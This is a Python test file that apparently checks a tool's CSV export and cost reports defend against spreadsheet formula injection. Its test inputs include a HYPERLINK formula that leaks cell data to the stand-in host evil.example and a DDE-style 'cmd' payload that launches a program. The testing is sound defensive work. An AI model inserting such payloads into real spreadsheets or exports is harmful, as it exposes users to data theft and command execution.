"""CSV written by `export --format csv` (and the console's `/export?format=csv`, the same
writer) and `cost --format csv` does not let a spreadsheet run recorded text as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from click.testing import CliRunner

from proxy.cli.main import main
from proxy.tools.export import CSV_COLUMNS, csv_row
from tests.dbs import chat_exchange, recorded, sqlite_url

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def flightrec(url: str, *args: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(main, list(args), env={"FLIGHTREC_DB_URL": url})
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


async def test_formula_text_is_quoted_in_every_csv(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "formulas.db")
    ex = chat_exchange(model="=1+2", user=LINK, tags={"team": "@SUM(A1)"})
    ex.error = "\tcmd|' /C calc'!A0"
    await recorded(url, [ex])

    [row] = await asyncio.to_thread(flightrec, url, "export", "--format", "csv")
    assert (row["model"], row["user"]) == ("'=1+2", "'" + LINK)
    assert row["error"] == "'\tcmd|' /C calc'!A0"
    assert row["tags"] == '{"team":"@SUM(A1)"}'  # JSON text starts with `{`: harmless
    assert row["id"] == ex.id and row["prompt_tokens"] == "9"

    by_user = await asyncio.to_thread(flightrec, url, "cost", "--by", "user", "--format", "csv")
    assert [r["group"] for r in by_user] == ["'" + LINK]
    by_model = await asyncio.to_thread(flightrec, url, "cost", "--format", "csv")
    assert [r["group"] for r in by_model] == ["'=1+2-2024-07-18"]  # the answering model


def test_numbers_stay_numbers() -> None:
    record = dict.fromkeys(CSV_COLUMNS) | {"usage": None, "cost_usd": -0.25, "status": 200}
    record |= {"user": "-1", "model": "+x", "query": "a=1"}
    cells = dict(zip(CSV_COLUMNS, csv_row(record), strict=True))
    assert (cells["cost_usd"], cells["status"]) == ("-0.25", "200")
    assert (cells["user"], cells["model"], cells["query"]) == ("'-1", "'+x", "a=1")
